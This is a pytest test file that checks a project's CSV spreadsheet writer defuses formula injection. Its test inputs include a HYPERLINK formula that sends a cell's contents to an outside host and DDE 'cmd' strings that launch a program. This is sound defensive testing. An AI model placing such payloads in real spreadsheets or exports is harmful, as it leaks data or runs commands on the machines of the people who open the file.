"""User input is text in a spreadsheet, and never a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from cutcard.spreadsheet import Sheet

ROOT = Path(__file__).parents[2]


def written(cell: object) -> str:
    out = io.StringIO()
    Sheet(out).write([cell])
    [[found]] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    return found


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.org/?"&A1,"Ana")',
        "+cmd|' /C calc'!A0",
        "-1+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "  =1+1",
        "\uff1d1+1",
        "-2.5.1",
    ],
)
def test_text_that_starts_like_a_formula_is_marked_as_text(text: str) -> None:
    assert written(text) == f"'{text}"


@pytest.mark.parametrize("control", ["\t", "\r", "\n", "\r\n", "\0"])
def test_control_character_starts_no_new_cell_or_row(control: str) -> None:
    assert written(f"Ana{control}=1+1").split() == ["Ana", "=1+1"]
    assert written(f"{control}=1+1") == f"'{' ' * len(control)}=1+1"


@pytest.mark.parametrize("text", ["Ana", "O'Neill", "-10.50", "+3", "-", "16.7 9.11", "", "1e-09"])
def test_names_and_numbers_are_unchanged(text: str) -> None:
    assert written(text) == text


@pytest.mark.parametrize("number", [-7, -0.25])
def test_a_number_below_zero_stays_a_number(number: float) -> None:
    assert written(number) == str(number)


def test_no_other_module_writes_csv() -> None:
    ours = [*(ROOT / "host" / "cutcard").rglob("*.py"), *(ROOT / "rng_certification").rglob("*.py")]
    found = [file.name for file in ours if "csv.writer" in file.read_text("utf-8")]
    assert found == ["spreadsheet.py"]
